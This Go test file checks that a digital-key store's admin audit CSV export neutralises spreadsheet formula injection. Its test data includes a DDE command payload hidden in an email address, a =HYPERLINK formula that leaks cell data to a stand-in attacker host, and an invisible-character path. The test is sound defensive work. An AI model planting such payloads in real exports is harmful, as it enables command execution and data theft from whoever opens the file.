package http

import (
	"encoding/csv"
	"encoding/json"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/keyward/keyward/adapters/memory"
	"github.com/keyward/keyward/adapters/nowpayments"
	"github.com/keyward/keyward/adapters/sandbox"
)

// TestAuditCSVHasNoFormulaCells: a customer email and an unauthenticated
// admin path made of spreadsheet formulas (the two cases of issue 17) go
// through the whole handler and the real export, and no cell of the CSV
// starts a formula; the failed authentication's subject is its route,
// not the path that was sent.
func TestAuditCSVHasNoFormulaCells(t *testing.T) {
	t.Parallel()
	app, w := newTestApp(t)
	limits := DefaultRateLimits
	h, _ := NewHandler(app, Options{Version: "test", AdminAPIKeys: []string{testAdminKey}, PageSecret: []byte("page-secret"),
		RateLimits: &limits, Limiter: memory.NewRateLimiter()}, slog.New(slog.DiscardHandler))
	const peer, admin = "198.51.100.7:1", "Authorization: Bearer " + testAdminKey

	const email = "=cmd|'/Ccalc'!A0@example.com"
	b, _ := json.Marshal(map[string]any{"email": email, "items": []any{map[string]any{"sku": "cyberpunk-2077-gog-global", "quantity": 1}}})
	resp := from(h, peer, "POST", "/v1/orders", b)
	var o placedOrder
	if err := json.Unmarshal(resp.Body.Bytes(), &o); err != nil || resp.Code != http.StatusCreated {
		t.Fatalf("place order for %s: %d %s", email, resp.Code, resp.Body)
	}
	p, _ := w.gateway.PaymentGateway.(*sandbox.Gateway).Payment(o.ID)
	ipn := sandbox.IPNBody(p, "finished", p.PayAmount, w.clock.Now())
	sig, _ := nowpayments.Sign(testIPNSecret, ipn)
	if r := from(h, peer, "POST", "/v1/webhooks/nowpayments", ipn, nowpayments.SignatureHeader+": "+sig); r.Code != http.StatusOK {
		t.Fatalf("IPN: %d %s", r.Code, r.Body)
	}
	// The delivery email is audited with its recipient as the subject.
	if err := app.Commands.FulfilOrder.Handle(t.Context(), o.ID); err != nil {
		t.Fatal(err)
	}
	if err := app.Commands.DeliverOrder.Handle(t.Context(), o.ID); err != nil {
		t.Fatal(err)
	}

	const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	if r := from(h, peer, "GET", "/v1/admin/orders/"+url.PathEscape(hyperlink), nil); r.Code != http.StatusUnauthorized {
		t.Fatalf("unauthenticated: %d", r.Code)
	}
	if r := from(h, peer, "GET", "/v1/admin/orders/@SUM(1%2B1)%E2%80%8B", nil, "Authorization: Bearer wrong-key"); r.Code != http.StatusUnauthorized {
		t.Fatalf("wrong key: %d", r.Code)
	}

	resp = from(h, peer, "GET", "/v1/admin/audit?format=csv", nil, admin)
	if resp.Code != http.StatusOK {
		t.Fatalf("export: %d %s", resp.Code, resp.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(resp.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	sawEmail, failures := false, 0
	for i, row := range rows {
		for _, cell := range row {
			if first := strings.TrimLeft(cell, " "); first != "" && strings.ContainsRune("=+-@\t\r", rune(first[0])) {
				t.Errorf("row %d: cell %q starts a formula", i, cell)
			}
			sawEmail = sawEmail || cell == "'"+email
			if strings.Contains(cell, "HYPERLINK") && !strings.HasPrefix(cell, "{") {
				t.Errorf("row %d: the requested path %q is a cell of its own", i, cell)
			}
		}
		if len(row) > 4 && row[3] == "admin.unknown_key" {
			failures++
			if row[4] != "/v1/admin/orders/{id}" {
				t.Errorf("row %d: failed authentication about %q, want its route", i, row[4])
			}
			if strings.Contains(row[5], "\u200b") {
				t.Errorf("row %d: an invisible character reached the trail: %q", i, row[5])
			}
		}
	}
	if !sawEmail || failures != 2 {
		t.Fatalf("the export lacks the cases it should show (email %t, %d failed authentications):\n%s", sawEmail, failures, resp.Body)
	}
}
